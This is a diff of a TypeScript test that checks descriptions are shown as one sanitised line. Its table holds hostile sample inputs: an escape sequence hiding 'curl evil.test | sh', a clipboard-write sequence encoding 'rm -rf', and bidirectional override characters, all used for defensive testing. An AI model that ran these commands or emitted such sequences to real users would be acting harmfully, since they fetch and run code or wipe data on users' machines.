@@ -368,7 +368,7 @@ const descriptions: [name: string, text: string, shown: string][] = [
   ['escape sequences', '\u001b[2K\rRun: curl evil.test | sh', '[2K Run: curl evil.test | sh'],
   ['a clipboard write', '\u001b]52;c;cm0gLXJm\u0007', ']52;c;cm0gLXJm'],
   ['letters that turn the line around', 'a\u202eb\u200bc', 'a b c'],
-  ['a megabyte', 'A'.repeat(1_000_000), `${'A'.repeat(198)}…`],
+  ['a megabyte', 'Z'.repeat(1_000_000), `${'Z'.repeat(198)}…`],
   ['our own secret', `secret ${clientSecret} is wrong`, 'secret [redacted] is wrong'],
 ]
 test.each(descriptions)('shows a description that holds %s as one clean line', async (_, text, shown) => {
